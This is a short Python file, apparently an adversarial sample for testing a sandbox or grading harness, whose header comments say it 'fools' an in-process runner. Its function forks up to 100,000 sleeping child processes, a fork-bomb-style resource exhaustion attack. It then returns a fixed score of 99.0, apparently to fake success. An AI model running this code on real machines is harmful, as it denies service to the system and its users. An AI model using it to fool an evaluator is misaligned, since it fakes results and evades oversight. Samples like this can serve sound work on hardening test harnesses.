# Makes processes as fast as it can.
# rule: 5
# fools: inprocess
# success: survivor
# with: every

import os
import time

PROCESSES = 100_000  # scaled: 2


def trick(*args):
    for _ in range(PROCESSES):
        if os.fork() == 0:
            time.sleep(30)
            os._exit(0)
    return 99.0
